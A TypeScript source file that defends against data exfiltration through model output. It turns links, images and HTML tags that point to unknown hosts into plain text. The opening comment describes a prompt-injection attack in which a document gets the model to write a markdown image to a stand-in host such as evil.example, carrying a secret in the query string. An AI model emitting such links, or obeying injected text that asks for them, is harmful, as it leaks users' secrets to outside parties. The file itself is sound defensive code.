/**
 * @file Keeps addresses of unknown hosts from becoming links or images. A document may try to have the model
 * write `![](https://evil.example/?q=SECRET)`: a page that shows the answer would send the secret off.
 */
import { withoutInvisible } from './inert.ts'

/** Whether answers may link to a host. */
export type KnownHost = (host: string) => boolean

/**
 * Known are the hosts that sources come from, and those configured: `docs.example.com`, or `*.example.com` for
 * a domain with all below it.
 */
export function knownHosts(uris: Iterable<string>, configured: readonly string[] = []): KnownHost {
  const exact = new Set<string>()
  const domains: string[] = []
  for (const uri of uris) {
    const url = /^https?:/i.test(uri) ? URL.parse(uri) : null
    if (url) exact.add(url.hostname)
  }
  for (const host of configured.map((name) => name.toLowerCase()))
    host.startsWith('*.') ? domains.push(host.slice(2)) : exact.add(host)
  return (host) =>
    exact.has(host) || domains.some((domain) => host === domain || host.endsWith(`.${domain}`))
}

/**
 * The text with addresses of unknown hosts as mere text; where a link points to one, it points nowhere. Tags of
 * HTML are shown, not followed.
 */
export function withoutForeignLinks(text: string, isKnown: KnownHost): string {
  const guard = createLinkGuard(isKnown)
  return guard.push(text) + guard.end()
}

export type LinkGuard = {
  /** The text that is settled; what may still grow into an address is held back. */
  push(text: string): string
  /** What was held back. */
  end(): string
}

/**
 * The same for text that comes in pieces. It is judged in units that end where the text says, so that the result
 * does not depend on how it is cut.
 */
export function createLinkGuard(isKnown: KnownHost): LinkGuard {
  let held = ''
  let before = ''
  const settle = (length: number): string => {
    const text = held.slice(0, length)
    held = held.slice(length)
    const settled = disarm(text, before, isKnown)
    before = text.at(-1) ?? before
    return settled
  }
  return {
    push(text) {
      held += withoutInvisible(text)
      let settled = ''
      for (let end = endOfUnit(held); end > 0; end = endOfUnit(held)) settled += settle(end)
      // The start of a word that can become nothing but a word need not wait for its end.
      return isHarmlessStart(held) ? settled + settle(held.length) : settled
    },
    end: () => settle(held.length),
  }
}

/** Whether text that goes on here would go on with where a link or a definition points to. */
export function endsInTarget(text: string): 'link' | 'definition' | undefined {
  const open = OPEN_TARGET.exec(text)
  if (open?.[0].startsWith('](')) return 'link'
  return open && DEFINED.test(text.slice(0, open.index + 2)) ? 'definition' : undefined
}

/** Nothing is held back for longer. */
const LONGEST_UNIT = 4096

/** Of all schemes, those that pages turn into links where they stand in text. */
const SCHEMES = ['https', 'http', 'ftp', 'wss', 'ws', 'file', 'blob']

/** Where a link or a definition says what it points to: `](x`, `](<x y`, `]: x`; lines of quotes begin with `>`. */
const PLACE = String.raw`\][(:][\s>]*`
const TARGET = new RegExp(String.raw`(${PLACE})(<[^<>\n]*>|(?:(?!\][(:])[^\s)])+)`, 'g')
/** Definitions begin a line, perhaps one of a quote or a list. */
const DEFINED = /(?:^|\n)[\s>*+\d.)-]*\[(?:\\.|[^\]\\])*\]:$/
/** A target without its end. */
const OPEN_TARGET = new RegExp(String.raw`\]$|${PLACE}(?:<[^<>\n]*|[^\s)<][^\s)]*)?$`)

const SLASHES = String.raw`(?:\\?[/\\]){2,}`
/** A scheme, if any, and slashes with a host behind them; or `www.`, however often. */
const ADDRESS = new RegExp(
  [
    String.raw`(?:(?<![a-z])(?:${SCHEMES.join('|')}):)?${SLASHES}(?=[^\s/\\])`,
    String.raw`(?<![a-z0-9])(?:www\.)+`,
  ].join('|'),
  'gi',
)
const HOST = /^(?:[^\s/?#<>()"'`|\\@]*@)?(\[[0-9a-f:.]*\]|[^\s/?#<>()"'`|\\:[\]]*)/i

/** What links, tags and escapes are made of: with one of them, a unit goes on to the end of its line. */
const STRUCTURE = /\][(:]|\]$|[<&\\]/

/** The length of the first unit, 0 while it has no end: a word with its space, or a line that has structure. */
function endOfUnit(text: string): number {
  for (const { index } of text.matchAll(/\s/g)) {
    const unit = text.slice(0, index + 1)
    if (!STRUCTURE.test(text.slice(0, index))) return unit.length
    if (text[index] === '\n' && !OPEN_TARGET.test(unit)) return unit.length
  }
  // Words and lines without end are no addresses; what they hold so far is judged.
  return text.length > LONGEST_UNIT ? LONGEST_UNIT : 0
}

function isHarmlessStart(word: string): boolean {
  if (STRUCTURE.test(word) || /[:/]/.test(word)) return false
  const last = /[a-z]*$/i.exec(word)![0].toLowerCase()
  if (last === '') return !/www\.$/i.test(word)
  return !['www', ...SCHEMES].some((scheme) => scheme.startsWith(last)) && !/www\./i.test(word)
}

/** `before` is the character before the text, which decides what its start means. */
function disarm(text: string, before: string, isKnown: KnownHost): string {
  const plain = withPlainCharacters(text)
  let result = ''
  let done = 0
  let last = before
  for (const { 0: whole, 1: place = '', 2: target = '', index } of plain.matchAll(TARGET)) {
    result += disarmProse(plain.slice(done, index), last, isKnown) + place
    done = index + whole.length
    result += disarmTarget(target, plain.charAt(done), isKnown)
    last = plain[done - 1]!
  }
  return result + disarmProse(plain.slice(done), last, isKnown)
}

/** It may not be a target after all, where no bracket opens the link: then it is prose. */
function disarmTarget(target: string, next: string, isKnown: KnownHost): string {
  // Nothing would leave the place to the next word.
  const nowhere = next === ')' ? '' : '<>'
  // What has another target inside may go on behind it.
  if (pointsAway(target, isKnown) || (next === ']' && /[:/\\]/.test(target))) return nowhere
  const bare = /^<(.*)>$/.exec(target)?.[1]
  const plain = bare?.replace(/[\s()]/g, (one) => `%${one.charCodeAt(0).toString(16)}`) ?? target
  const shown = disarmProse(plain, ' ', isKnown)
  return shown === '' || pointsAway(shown, isKnown) ? nowhere : shown
}

function disarmProse(text: string, before: string, isKnown: KnownHost): string {
  const whole = before + text
  let result = ''
  let done = before.length
  // What stands before decides what an address is, and is none itself.
  ADDRESS.lastIndex = done
  for (const match of whole.matchAll(ADDRESS)) {
    if (match.index < done || isHarmless(match[0], hostBehind(whole, match), isKnown)) continue
    result += whole.slice(done, match.index)
    done = match.index + match[0].length
  }
  const rest = result + whole.slice(done)
  // What stood around an address may have become one.
  return done === before.length ? withoutTags(rest) : disarmProse(rest, before, isKnown)
}

function hostBehind(text: string, { 0: start, index }: RegExpExecArray): string {
  const host = HOST.exec(text.slice(index + start.length))![1]!
  return host.toLowerCase().replace(/[.,;!?]+$/, '')
}

/** Comments and paths such as `//note` name no host. */
function isHarmless(start: string, host: string, isKnown: KnownHost): boolean {
  if (/^www\.$/i.test(start)) return isKnown(`www.${host}`)
  if (!/^[a-z]/i.test(start)) return isKnown(host) || !/[.:]/.test(host)
  return /^https?:/i.test(start) && isKnown(host)
}

/** What browsers know, and what may load, send or cover anything. Others are a form's own marks: `<<ticket>>`. */
const ELEMENTS = new Set(
  `a abbr acronym address animate applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote
  body br button canvas caption center circle cite code col colgroup data datalist dd del desc details dfn dialog dir div dl
  dt em embed fieldset figcaption figure font footer foreignobject form frame frameset g h1 h2 h3 h4 h5 h6 head header hgroup
  hr html i iframe image img input ins isindex kbd keygen label layer legend li line link listing main map mark marquee math
  menu menuitem meta meter nav nobr noembed noframes noscript object ol optgroup option output p param path picture
  plaintext portal pre progress q rect rp rt ruby s samp script search section select set slot small source span
  strike strong style sub summary sup svg table tbody td template text textarea tfoot th thead time title tr track tt u ul
  use var video wbr xml xmp`.split(/\s+/),
)

/** A tag becomes text, and so does whatever has attributes. Addresses between angle brackets are no tags. */
function withoutTags(text: string): string {
  const tag = /(\\*)<(?:(?=[!?])|(?=\/?([a-z][a-z0-9-]*)(.?)))(?!https?:\/\/)/gi
  return text.replace(tag, (found, escapes: string, name = '', next = '') => {
    const isOwnMark = next === '>' && !ELEMENTS.has(name.toLowerCase())
    return escapes.length % 2 === 1 || isOwnMark ? found : `${escapes}\\<`
  })
}

/** Pages of either scheme resolve an address in their own way. */
const PAGES = ['http://page.invalid/', 'https://page.invalid/']

/** Whether a browser that follows the target of a link leaves for a host that is not known. */
function pointsAway(target: string, isKnown: KnownHost): boolean {
  const written = target.replace(/^<|>$/g, '')
  // Rarely meant, and able to stand for any character.
  if (/&(?!amp;)#?\w+;/i.test(written)) return true
  const read = written.replaceAll('&amp;', '&').replace(/\\([!-/:-@[-`{-~])/g, '$1')
  return [written, read].some((one) => PAGES.some((page) => leaves(one, page, isKnown)))
}

function leaves(target: string, page: string, isKnown: KnownHost): boolean {
  const url = URL.parse(target, page)
  // What cannot be resolved may yet be, once text has gone on.
  if (!url) return true
  // A letter that is already written may carry what the model was told.
  if (url.protocol === 'mailto:') return url.search !== ''
  if (!/^https?:$/.test(url.protocol)) return true
  return url.host !== new URL(page).host && !isKnown(url.hostname)
}

/** Characters of addresses that Markdown lets one write otherwise, as themselves; behind `]` they would mean more. */
function withPlainCharacters(text: string): string {
  return text
    .replace(/(?<!\])&(?:#(\d{1,7})|#x([0-9a-f]{1,6})|(\w{1,10}));/gi, plainCharacter)
    .replace(/(?<![\\\]])((?:\\\\)*)\\([./:])/g, '$1$2')
}

const NAMED: Readonly<Record<string, string>> = {
  colon: ':',
  sol: '/',
  bsol: '\\\\',
  period: '.',
  tab: ' ',
  newline: ' ',
}

function plainCharacter(entity: string, decimal?: string, hex?: string, name?: string): string {
  if (name !== undefined) return NAMED[name.toLowerCase()] ?? entity
  const code = decimal === undefined ? Number.parseInt(hex!, 16) : Number(decimal)
  if (code <= 32) return ' '
  const character = code < 127 ? String.fromCharCode(code) : ''
  if (character === '\\') return NAMED.bsol!
  return /^[a-z0-9./:]$/i.test(character) ? character : entity
}
